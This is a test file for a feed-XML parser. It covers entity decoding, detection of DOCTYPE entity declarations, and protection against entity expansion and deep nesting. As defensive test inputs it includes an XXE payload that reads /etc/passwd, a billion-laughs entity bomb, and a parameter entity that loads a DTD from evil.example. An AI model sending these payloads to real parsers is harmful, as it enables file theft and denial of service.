// Tests for parsing untrusted feed XML: entity declarations found, only XML and numeric references decoded, deep nesting stopped.
import { describe, expect, it } from 'vitest';
import { declaresEntities, decodeXmlReferences, parseXml } from './feed-xml.js';

describe('decodeXmlReferences', () => {
  it('decodes the five XML entities and numeric references, and leaves HTML entities as written', () => {
    expect(decodeXmlReferences('Q&amp;A &lt;b&gt; &quot;x&quot; &apos;y&apos; &#8217; &#x1F600; &nbsp; &copy;')).toBe('Q&A <b> "x" \'y\' ’ 😀 &nbsp; &copy;');
  });

  it('turns references to NUL, surrogates and past U+10FFFF into U+FFFD', () => {
    expect(decodeXmlReferences('&#0;&#xD800;&#x110000;')).toBe('\uFFFD\uFFFD\uFFFD');
  });

  it('decodes once: "&amp;lt;" is the text "&lt;"', () => {
    expect(decodeXmlReferences('&amp;lt;')).toBe('&lt;');
  });
});

describe('declaresEntities', () => {
  it('finds an external entity (XXE)', () => {
    expect(declaresEntities('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss>&xxe;</rss>')).toBe(true);
  });

  it('finds the nested entities of a billion laughs', () => {
    const lol = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol1;</lolz>';
    expect(declaresEntities(lol)).toBe(true);
  });

  it('finds a parameter entity and a lower-case declaration', () => {
    expect(declaresEntities('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>')).toBe(true);
    expect(declaresEntities('<!doctype r [<!entity x "y">]><r/>')).toBe(true);
  });

  it('accepts a plain DOCTYPE', () => {
    expect(declaresEntities('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>')).toBe(false);
  });

  it('accepts "<!ENTITY" quoted in CDATA or a comment (a post about XXE)', () => {
    expect(declaresEntities('<rss><item><description><![CDATA[<!DOCTYPE x [<!ENTITY y "z">]>]]></description></item><!-- <!DOCTYPE x [<!ENTITY y "z">]> --></rss>')).toBe(false);
  });
});

describe('parseXml', () => {
  it('parses elements, attributes and CDATA, with values as strings', () => {
    expect(parseXml('<rss version="2.0"><channel><title>2025</title><item><description><![CDATA[<p>A &amp; B</p>]]></description></item></channel></rss>')).toEqual({
      rss: { '@_version': '2.0', channel: { title: '2025', item: [{ description: '<p>A &amp; B</p>' }] } },
    });
  });

  it('never expands an entity a document declares, even if asked to parse it', () => {
    const parsed = parseXml('<!DOCTYPE r [<!ENTITY x "expanded">]><r><t>&x;</t></r>');
    expect(JSON.stringify(parsed)).not.toContain('expanded');
  });

  it('keeps Atom xhtml content as raw markup', () => {
    expect(parseXml('<feed><entry><content type="xhtml"><div><p>A &amp; <b>B</b></p></div></content></entry></feed>')).toEqual({
      feed: { entry: [{ content: { '#text': '<div><p>A &amp; <b>B</b></p></div>', '@_type': 'xhtml' } }] },
    });
  });

  it('throws on nesting deeper than 100 instead of overflowing the stack', () => {
    expect(() => parseXml(`<rss>${'<x>'.repeat(100_000)}`)).toThrow(/nested/i);
  });
});
